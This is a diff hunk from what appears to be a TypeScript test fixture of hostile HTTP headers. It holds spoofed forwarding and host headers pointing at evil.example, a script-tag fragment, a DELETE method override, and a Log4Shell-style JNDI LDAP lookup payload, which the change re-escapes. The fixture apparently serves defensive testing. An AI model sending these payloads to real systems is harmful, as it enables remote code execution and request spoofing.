@@ -95,7 +95,7 @@ const hostileHeaders: Readonly<Record<string, string>> = {
   'x-forwarded-for': '127.0.0.1, ::1, <script>, \u00e4',
   forwarded: 'for=127.0.0.1;host=evil.example',
   'x-forwarded-host': 'evil.example',
-  'x-request-id': '${jndi:ldap://evil.example}',
+  'x-request-id': '\u0024{jndi:ldap://evil.example}',
   traceparent: '00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff',
   'x-http-method-override': 'DELETE',
   'x-original-url': '/metrics',
